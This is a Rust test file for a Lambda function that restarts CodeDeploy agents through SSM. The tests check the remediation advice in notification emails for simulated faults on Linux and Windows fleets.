async fn an_instance_that_the_role_may_not_send_to_is_no_matter_of_its_ssm_agent() {
    let story = Story::of(2).given(|state| state.host(&id(2)).denied = true);
    story.run().await;
    assert_eq!(
        advice_in(&story.body("email")),
        [
            "allow this function's role ssm:SendCommand on the instance (by its tag or the policy), then repeat by hand"
        ]
    );
}

#[tokio::test(start_paused = true)]
async fn an_instance_in_an_unknown_state_waits_until_it_is_in_service() {
    let story = Story::of(2).given(|state| {
        let group = &mut state.region(REGION).auto_scaling_groups[0];
        group.instances[0].lifecycle = "Napping".to_owned();
    });
    story.run().await;
    assert_eq!(
        advice_in(&story.body("email")),
        ["wait until it is InService, then repeat by hand"]
    );
}

#[tokio::test(start_paused = true)]
async fn whichever_call_failed_those_held_back_are_told_to_do_what_its_problem_says() {
    const HELD_BACK: &str = "do what the problem says, then repeat by hand";
    // While polls are refused, nothing gives its slot away.
    const NO_TIME: &str = "repeat by hand";
    const UNFINISHED: &str =
        "see the command's result in Systems Manager, Run Command; then repeat by hand";
    let broken = Fault {
        operation: "SendCommand".to_owned(),
        code: Some("InternalServerError".to_owned()),
        status: Some(500),
        after: 1,
        times: 100,
        ..Fault::default()
    };
    let unanswered = Fault {
        kind: FaultKind::NoReply,
        ..broken.clone()
    };
    let blind = Fault {
        operation: "ListCommandInvocations".to_owned(),
        times: 10_000,
        ..broken.clone()
    };
    for (fault, advice) in [
        (broken, &[HELD_BACK][..]),
        (unanswered, &[HELD_BACK]),
        (blind, &[NO_TIME, UNFINISHED]),
    ] {
        let story = Story::of(3)
            .setting("MAX_CONCURRENCY", "1")
            .given(|state| state.faults.push(fault.clone()));
        let told = story.run().await;
        assert_eq!(told.counts()["held-back"], 2, "{fault:?}");
        let remedy = told.group()["problem"]["remedy"].as_str().expect("text");
        let steps = [&[remedy], advice].concat();
        let mail = story.body("email");
        assert_eq!(advice_in(&mail), steps, "{fault:?}: {mail}");
        let card: Value = serde_json::from_str(&story.body("https")).expect("JSON");
        assert_eq!(card["content"]["nextSteps"], json!(steps), "{fault:?}");
    }
}

#[tokio::test(start_paused = true)]
async fn the_mail_about_a_fleet_that_another_deployment_keeps_busy() {
    let story = Story::of(1).given(|state| {
        let mut other = state.deployment("d-EXAMPLEE5").clone();
        other.id = "d-RUNNING01".to_owned();
        other.status = "InProgress".to_owned();
        other.completed_at = None;
        state.region("us-east-1").deployments.push(other);
    });
    story.run().await;
    let mail = story.body("email");
    insta::assert_snapshot!(mail.split("\nRepeat").next().expect("text"), @"
    WARNING: 1 busy of 1 agent: my-application/my-deployment-group (123456789012 us-east-1)
    Pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f, 2026-02-17T09:14:05Z; deployment d-EXAMPLEE5.
    In all: 1 busy.

    WARNING busy:
      i-00000000000000001 (i-00000000000000001.us-east-1.compute.internal): deployment d-RUNNING01 of the group is running
      Do: nothing, if this function also hears of that deployment's end: it brings the restart; else repeat by hand.
    ");
}

/// What a mail says is to be done about a fleet of that platform in which everything fails that a host can tell of.
async fn advice(platform: &str) -> String {
    use AgentFault::{
        AgentUnhealthy, Draining, Hangs, NotRoot, OldAgentSurvived, PreflightFailed,
        ServiceManagerFailed,
    };
    let faults = [
        NotRoot,
        PreflightFailed,
        ServiceManagerFailed,
        OldAgentSurvived,
        AgentUnhealthy,
        Draining,
        Hangs,
    ];
    let told = |output: &str, code| Answer {
        output: Some(output.to_owned()),
        response_code: Some(code),
        ..answer("Failed", "Failed").expect("an answer")
    };
    let story = Story::of(11).setting("MAX_ERRORS", "100%").given(|state| {
        for (n, fault) in faults.into_iter().enumerate() {
            state.host(&id(n + 1)).agent.fault = Some(fault);
        }
        state.host(&id(8)).agent.installed = false;
        state.host(&id(9)).answer = Some(told("a banner", 1));
        let queued = r#"{"agentRestart":1,"result":"restart-running","code":22,"agentVersion":"","memoryBeforeKiB":0,"memoryAfterKiB":0,"seconds":120,"detail":"queued"}"#;
        state.host(&id(10)).answer = Some(told(queued, 22));
        state.host(&id(11)).ssm_agent.fault = Some(SsmAgentFault::NoSpace);
        for n in 1..=11 {
            state.host(&id(n)).platform = platform.to_owned();
        }
    });
    story.run().await;
    let mail = story.body("email");
    let advice: Vec<&str> = mail
        .lines()
        .filter(|line| line.starts_with("  Do: "))
        .collect();
    advice.join("\n")
}

#[tokio::test(start_paused = true)]
async fn the_advice_for_each_failure() {
    insta::assert_snapshot!(advice("Linux").await, @"
    Do: start the agent now, or the next deployment fails there: sudo systemctl start codedeploy-agent; journalctl -u codedeploy-agent shows why it went down.
    Do: repeat by hand when it has ended: that proves the new agent, or starts one if somebody had stopped it.
    Do: repeat by hand when it has ended; systemctl list-jobs shows what a queued start waits for.
    Do: let the SSM Agent run commands as root.
    Do: mend what the host says (program, configuration, unit, disk, memory), then repeat by hand; what runs there was left alone.
    Do: pgrep -af codedeploy-agent shows the old agent: when no deployment runs, stop it and start the service once.
    Do: mend what the host says (credentials, role, endpoint, network, TLS), then repeat by hand: the agent runs, but CodeDeploy does not hear it, or its poller does not stay.
    Do: install the agent, or take the instance out of the deployment group.
    Do: check that the document is this version's restart document for its platform, and the command's output.
    Do: systemctl status codedeploy-agent on the instance: it may be down; then repeat by hand.
    Do: let the SSM Agent there run scripts: free disk space and memory, no noexec on /var; /var/log/amazon/ssm/amazon-ssm-agent.log says what it lacks; then repeat by hand.
    ");
}

/// Whoever is on call copies what a mail says: nothing of it is Linux's there.
#[tokio::test(start_paused = true)]
async fn the_advice_for_each_failure_on_windows() {
    insta::assert_snapshot!(advice("Windows").await, @r"
    Do: start the agent now, or the next deployment fails there: Start-Service codedeployagent; the newest log in C:\ProgramData\Amazon\CodeDeploy\log shows why it went down.
    Do: repeat by hand when it has ended: that proves the new agent, or starts one if somebody had stopped it.
    Do: repeat by hand when it has ended.
    Do: let the SSM Agent run as LocalSystem, as it is installed.
    Do: mend what the host says (program, configuration, service, disk, memory), then repeat by hand; what runs there was left alone.
    Do: when no deployment runs: Stop-Service codedeployagent, end what is left of it (Stop-Process), Start-Service codedeployagent.
    Do: mend what the host says (credentials, role, endpoint, network, TLS), then repeat by hand: the agent runs, but CodeDeploy does not hear it, or its poller does not stay.
    Do: install the agent, or take the instance out of the deployment group.
    Do: check that the document is this version's restart document for its platform, and the command's output.
    Do: Get-Service codedeployagent on the instance: it may be down; then repeat by hand.
    Do: let the SSM Agent there run scripts: free disk space and memory, no policy and no security product that forbids PowerShell scripts; C:\ProgramData\Amazon\SSM\Logs\amazon-ssm-agent.log says what it lacks; then repeat by hand.
    ");
}

#[tokio::test(start_paused = true)]
async fn in_a_mixed_group_each_platform_has_its_own_advice() {
    let story = Story::of(3).given(|state| {
        state.host(&id(2)).platform = "Windows".to_owned();
        for n in 1..=3 {
            state.host(&id(n)).agent.fault = Some(AgentFault::AgentDown);
        }
    });
    story.run().await;
    let mail = story.body("email");
    let sections = mail
        .split("\n\n")
        .filter(|section| section.starts_with("CRITICAL failed"));
    let sections: Vec<(usize, bool)> = sections
        .map(|section| {
            (
                section.matches("code 32").count(),
                section.contains("Start-Service"),
            )
        })
        .collect();
    assert_eq!(sections, [(2, false), (1, true)], "{mail}");
}

#[tokio::test(start_paused = true)]
async fn the_mail_when_everybody_is_fine() {
    let story = Story::of(6)
        .setting("NOTIFY_ON", "always")
        .setting("MIN_MEMORY_MIB", "60")
        .given(|state| {
            state.host(&id(1)).agent.started_at = 0.0;
            state.host(&id(1)).agent.memory_kib = 80_000;
            state.host(&id(2)).agent.memory_kib = 30_000;
            *state.lifecycle(&id(3)) = "Pending:Wait".to_owned();
            state.host(&id(4)).agent.running = false;
        });
    let told = story.run().await;
    assert_eq!(
        told.counts(),
        &json!({"already-restarted": 1, "below-threshold": 1, "restarted": 2, "skipped": 1, "started": 1})
    );
    insta::assert_snapshot!(story.body("email"), @"
    OK: 6 of 6 agents fine: my-application/my-deployment-group (123456789012 us-east-1)
    Pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f, 2026-02-17T09:14:05Z; deployment d-EXAMPLEE5.
    In all: 1 already-restarted, 1 below-threshold, 2 restarted, 1 skipped, 1 started.
    ");
}

#[tokio::test(start_paused = true)]
async fn the_mail_about_a_problem() {
    let story = Story::of(2).given(|state| {
        state.faults.push(Fault {
            operation: "GetDeploymentGroup".to_owned(),
            code: Some("AccessDeniedException".to_owned()),
            message: Some("User is not authorized to perform this action".to_owned()),
            times: 100,
            ..Fault::default()
        });
    });
    story.run().await;
    insta::assert_snapshot!(story.body("email"), @r#"
    WARNING: agents not restarted: my-application/my-deployment-group (123456789012 us-east-1)
    Pipeline my-pipeline, execution 3f1c9c4e-52d6-4b7a-9e0d-8a6b5c4d3e2f, 2026-02-17T09:14:05Z; deployment d-EXAMPLEE5.

    Problem in step fleet: AccessDeniedException: codedeploy:GetDeploymentGroup (deployment group my-application/my-deployment-group): User is not authorized to perform this action
      Do: allow codedeploy:GetDeploymentGroup in the function's role, for deployment group my-application/my-deployment-group.

    Repeat by hand (leaves agents alone that are fresh by now):
      aws lambda invoke --region us-east-1 --function-name restarter --cli-read-timeout 900 --cli-binary-format raw-in-base64-out --payload '{"application":"my-application","deploymentGroup":"my-deployment-group","deploymentId":"d-EXAMPLEE5","region":"us-east-1"}' answer.json
    "#);
}

#[tokio::test(start_paused = true)]
async fn subscriptions_can_filter_on_the_group_that_was_ordered_though_it_was_not_found() {
    let story = Story::of(1).given(|state| {
        let region = state.region(REGION);
        region.deployments.clear();
        region.deployment_groups.clear();
    });
    story.event(&request(json!({}))).await;
    let attributes = story.message().attributes;
    let value = |name: &str| attributes[name]["Value"].clone();
    assert_eq!(value("deploymentGroup"), sim::DEPLOYMENT_GROUP);
    assert_eq!(value("application"), sim::APPLICATION);
}

#[tokio::test(start_paused = true)]
async fn a_problem_before_any_group_is_read_still_carries_the_group_to_filter_on() {
    let story = Story::of(1);
    let mut foreign = event("codedeploy-success");
    foreign["account"] = json!("210987654321");
    let told = story.event(&foreign).await;
    assert_eq!(told.answer["problem"]["code"], "OtherAccount");
    let attributes = json!(story.message().attributes);
    assert_eq!(attributes["account"]["Value"], "210987654321");
    assert_eq!(attributes["application"]["Value"], "my-application");
    assert_eq!(
        attributes["deploymentGroup"]["Value"],
        "my-deployment-group"
    );
}
